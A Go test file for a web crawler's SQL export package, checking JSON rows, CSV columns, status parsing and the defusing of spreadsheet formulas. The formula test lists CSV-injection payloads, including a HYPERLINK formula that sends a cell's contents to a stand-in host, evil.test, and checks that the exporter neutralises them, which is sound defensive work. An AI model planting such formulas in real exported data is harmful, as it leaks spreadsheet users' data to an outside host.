package sqldb

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/rendercrawl/render/sink"
	"github.com/rendercrawl/render/webpage"
)

// A row's JSON is the line the JSON Lines sink writes for its record.
func TestRowJSONIsTheRecordsLine(t *testing.T) {
	r := &sink.Record{URL: "http://a.test/é?x=<1>", Content: webpage.Content{FinalURL: "http://a.test/", Status: 200, Title: "A & B", Text: "text\x00with a NUL", HTML: "<p>hi</p>", Links: []string{"http://a.test/2"}, FailedRequests: []sink.FailedRequest{}}, Mode: "http", FailedChecks: []sink.CheckFailure{},
		FetchedAt: time.Date(2025, 1, 2, 3, 4, 5, 6000, time.UTC), ElapsedMS: 12, Depth: 1}
	var want bytes.Buffer
	j := sink.NewJSONL(&want)
	j.Write(r)
	row, err := NewRow("c", r)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(row.Record, []byte("<p>hi</p>")) {
		t.Error("the record JSON holds the html its column holds")
	}
	got, err := row.JSON()
	if err != nil {
		t.Fatal(err)
	}
	if string(got)+"\n" != want.String() {
		t.Errorf("JSON:\n%s\nwant the JSON Lines sink's:\n%s", got, want.String())
	}
}

// A record stored by a later build keeps the fields this one does not
// know; a jsonb's order is put back to the record's.
func TestRowJSONKeepsUnknownFieldsAndPutsTheOrderBack(t *testing.T) {
	row := Row{URL: "u", HTML: "<b>", Text: "t",
		Record: []byte(`{"requests": [{"url": "x"}], "url": "u", "html": "", "text": "", "status": 200}`)}
	got, err := row.JSON()
	if err != nil {
		t.Fatal(err)
	}
	want := `{"url":"u","status":200,"text":"t","html":"<b>","requests":[{"url":"x"}]}`
	if string(got) != want {
		t.Errorf("JSON = %s\nwant %s", got, want)
	}
}

type rowsReader []Row

func (r rowsReader) Pages(ctx context.Context, f Filter, fn func(*Row) error) error {
	for i := range r {
		if err := fn(&r[i]); err != nil {
			return err
		}
	}
	return nil
}
func (rowsReader) Close() error { return nil }

func TestExportCSVHasTheColumns(t *testing.T) {
	r1, _ := NewRow("c", &sink.Record{URL: "http://a.test/1", Content: webpage.Content{Status: 404, Title: "a, \"quoted\"\ntitle", Links: []string{}}})
	var out bytes.Buffer
	n, err := Export(t.Context(), rowsReader{r1}, Filter{CrawlID: "c"}, FormatCSV, &out)
	if err != nil || n != 1 {
		t.Fatalf("Export = %d, %v", n, err)
	}
	recs, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 || strings.Join(recs[0], ",") != strings.Join(CSVHeader, ",") {
		t.Fatalf("CSV:\n%v", recs)
	}
	if recs[1][0] != "http://a.test/1" || recs[1][2] != "404" || recs[1][5] != r1.Title {
		t.Errorf("row: %q", recs[1])
	}
	if _, err := Export(t.Context(), rowsReader{}, Filter{}, "xml", &out); err == nil {
		t.Error("an unknown format was accepted")
	}
}

// TestExportCSVDefusesFormulas: a page's title, text or URL that a
// spreadsheet would run as a formula is exported with a leading quote;
// others are exported as they are.
func TestExportCSVDefusesFormulas(t *testing.T) {
	for _, tc := range []struct{ title, want string }{
		{`=HYPERLINK("http://evil.test/?"&A1,"x")`, `'=HYPERLINK("http://evil.test/?"&A1,"x")`},
		{"+1+cmd", "'+1+cmd"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"plain = title", "plain = title"},
		{"", ""},
	} {
		r, _ := NewRow("c", &sink.Record{URL: "http://a.test/", Content: webpage.Content{Title: tc.title, Text: tc.title, Links: []string{}}})
		var out bytes.Buffer
		if _, err := Export(t.Context(), rowsReader{r}, Filter{CrawlID: "c"}, FormatCSV, &out); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&out).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if got := recs[1][5]; got != tc.want || recs[1][6] != tc.want {
			t.Errorf("title %q exported as %q, text as %q; want %q", tc.title, got, recs[1][6], tc.want)
		}
	}
}

func TestParseStatus(t *testing.T) {
	for in, want := range map[string][2]int{"404": {404, 404}, "4xx": {400, 499}, "2XX": {200, 299}} {
		lo, hi, err := ParseStatus(in)
		if err != nil || lo != want[0] || hi != want[1] {
			t.Errorf("ParseStatus(%q) = %d, %d, %v", in, lo, hi, err)
		}
	}
	for _, in := range []string{"", "x", "6xx", "-1", "1000"} {
		if _, _, err := ParseStatus(in); err == nil {
			t.Errorf("ParseStatus(%q) accepted", in)
		}
	}
}
